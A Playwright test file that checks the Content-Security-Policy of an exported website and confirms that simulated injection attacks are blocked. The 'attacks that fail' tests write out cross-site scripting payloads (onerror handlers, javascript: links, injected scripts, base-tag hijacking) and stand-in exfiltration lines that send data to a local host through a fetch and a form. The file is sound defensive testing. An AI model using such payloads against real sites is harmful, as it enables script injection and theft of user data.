import { once } from 'node:events';
import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test, type Page } from '@playwright/test';
import { standInOrigin } from '../../content/destination-url';
import { hydrated } from './hydrated';
import { documentOf, folder, htmlFiles, pagePaths, pathOf } from './exported-site';
import { embeds, frameOf } from './provider-visit';

type Attack = { violated: string[]; ran: boolean };

/** Everything that a policy held off: what the page was told, and what the browser wrote into its console. */
async function watchViolations(page: Page): Promise<string[]> {
  const found: string[] = [];
  page.on('console', (message) => {
    if (/content security policy|refused to/i.test(message.text())) found.push(message.text());
  });
  await page.exposeFunction('reportViolation', (text: string) => found.push(text));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, sourceFile }) => {
      Reflect.get(window, 'reportViolation')(`${violatedDirective}: ${blockedURI} (${sourceFile})`);
    });
  });
  return found;
}

/** Runs code as if an injection had brought it in, and says which directives spoke and whether it took effect. */
async function attack(page: Page, code: string): Promise<Attack> {
  const violated = new Set<string>();
  await page.exposeFunction('spoke', (directive: string) => violated.add(directive));
  await page.evaluate(() => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      Reflect.get(window, 'spoke')(effectiveDirective);
    });
  });
  await page.evaluate(code);
  await expect.poll(() => violated.size).toBeGreaterThan(0);
  return { violated: [...violated], ran: await page.evaluate(() => 'injected' in window) };
}

test.describe('the policy of every exported page', () => {
  for (const file of htmlFiles) {
    const path = pathOf(file);

    test(`${path} is strict and comes first`, () => {
      const [first, second] = documentOf(path).querySelectorAll('head > *');
      expect(first?.getAttribute('charset')?.toLowerCase()).toBe('utf-8');
      expect(second?.getAttribute('http-equiv')).toBe('Content-Security-Policy');
      const policy = second?.getAttribute('content') ?? '';
      expect(policy).not.toMatch(/unsafe-inline|unsafe-eval|\*|https:(?!\/\/)|http:(?!\/\/)/);
      expect(policy).toContain("default-src 'none'");
      expect(policy).toContain("object-src 'none'");
      expect(policy).toContain("base-uri 'none'");
      const origins = policy.match(/https?:\/\/[^\s;]+/g) ?? [];
      expect(new Set(origins)).toEqual(new Set([standInOrigin]));
    });
  }
});

for (const path of [...pagePaths, '/no-such-page']) {
  test(`${path} runs without a violation`, async ({ page }) => {
    const violations = await watchViolations(page);
    await page.goto(path, { waitUntil: 'networkidle' });
    await page.evaluate(() => window.scrollTo(0, document.body.scrollHeight));
    expect(violations).toEqual([]);
  });
}

test('a walk through ten pages that ends in a booking runs without a violation', async ({ page }) => {
  const violations = await watchViolations(page);
  await page.setViewportSize({ width: 1440, height: 900 });
  await page.goto('/industries/plumbers');
  await hydrated(page);
  await page.evaluate(() => Object.assign(window, { sameDocument: true }));
  const walk = ['/', '/pricing', '/add-on-pricing', '/testimonials', '/contact', '/demo', '/about/founder', '/ai'];
  for (const path of [...walk, '/coaching', '/schedule']) {
    // The desktop menu, the footer or the page itself: wherever a link to it is.
    await page.locator(`a[href="${path}"]`).first().dispatchEvent('click');
    await expect(page).toHaveURL(path);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  }
  const [calendar] = embeds;
  await calendar?.use(frameOf(page));
  await expect(page.getByRole('status').filter({ hasText: calendar?.confirmation })).toHaveCount(1);
  expect(await page.evaluate(() => 'sameDocument' in window)).toBe(true);
  expect(violations).toEqual([]);
});

test('the page at an old path runs its script under its own policy and keeps the query', async ({ page }) => {
  const violations = await watchViolations(page);
  // As on a host that knows no redirects.
  const body = readFileSync(`${folder}/calendar.html`, 'utf8');
  await page.route('**/calendar?*', (route) => route.fulfill({ contentType: 'text/html', body }));
  await page.goto('/calendar?utm_source=a');
  await expect(page).toHaveURL('/schedule');
  await expect(page.locator('.provider-host iframe')).toHaveAttribute('src', /[?]utm_source=a(?:&|$)/);
  expect(violations).toEqual([]);
});

test.describe('attacks that fail', () => {
  test.beforeEach(async ({ page }) => {
    await page.goto('/contact', { waitUntil: 'networkidle' });
  });

  test('an injected inline script', async ({ page }) => {
    const code = `{ const script = document.createElement('script'); script.textContent = 'window.injected = 1';
      document.body.append(script); }`;
    expect(await attack(page, code)).toEqual({ violated: ['script-src-elem'], ran: false });
  });

  test('an injected event handler', async ({ page }) => {
    const code = `document.querySelector('main').insertAdjacentHTML('beforeend',
      '<img src="/no-such.png" onerror="window.injected = 1">')`;
    expect(await attack(page, code)).toEqual({ violated: ['script-src-attr'], ran: false });
  });

  test('an injected link with a script for an address', async ({ page }) => {
    const code = `document.querySelector('main').insertAdjacentHTML('beforeend',
      '<a id="evil" href="javascript:window.injected = 1">x</a>'); document.getElementById('evil').click()`;
    expect(await attack(page, code)).toEqual({ violated: ['script-src-elem'], ran: false });
  });

  test('a script made from a string', async ({ page }) => {
    const code = `setTimeout('window.injected = 1', 0); document.title`;
    expect(await attack(page, code)).toEqual({ violated: ['script-src'], ran: false });
  });

  test('a script from another origin', async ({ page }) => {
    const code = `{ const script = document.createElement('script'); script.src = 'http://127.0.0.1:3001/evil.js';
      document.body.append(script); }`;
    expect((await attack(page, code)).violated).toEqual(['script-src-elem']);
  });

  test('a frame of another origin', async ({ page }) => {
    const code = `{ const frame = document.createElement('iframe'); frame.src = 'http://127.0.0.1:3001/stand-in/forger';
      document.body.append(frame); }`;
    expect((await attack(page, code)).violated).toEqual(['frame-src']);
  });

  test('a form that would send data elsewhere', async ({ page }) => {
    const code = `document.querySelector('main').insertAdjacentHTML('beforeend',
      '<form id="evil" action="http://127.0.0.1:3001/"></form>'); document.getElementById('evil').submit()`;
    expect((await attack(page, code)).violated).toEqual(['form-action']);
  });

  test('data sent elsewhere', async ({ page }) => {
    const code = `fetch('http://127.0.0.1:3001/?secret').catch(() => {}); document.title`;
    expect((await attack(page, code)).violated).toEqual(['connect-src']);
  });

  test('an address for all relative links', async ({ page }) => {
    const code = `{ const base = document.createElement('base'); base.href = 'http://127.0.0.1:3001/';
      document.head.append(base); }`;
    expect((await attack(page, code)).violated).toEqual(['base-uri']);
  });
});

test('a stranger’s page cannot frame the site', async ({ page, baseURL }) => {
  const stranger = createServer((_request, response) => {
    response.setHeader('Content-Type', 'text/html');
    response.end(`<iframe src="${baseURL}/schedule"></iframe>`);
  }).listen(0, '127.0.0.1');
  await once(stranger, 'listening');
  const refused = page.waitForEvent('console', (message) => /frame-ancestors|X-Frame-Options/.test(message.text()));
  await page.goto(`http://127.0.0.1:${(stranger.address() as AddressInfo).port}/`);
  expect((await refused).type()).toBe('error');
  await expect(page.frameLocator('iframe').getByRole('heading', { level: 1 })).toHaveCount(0);
  stranger.close();
});
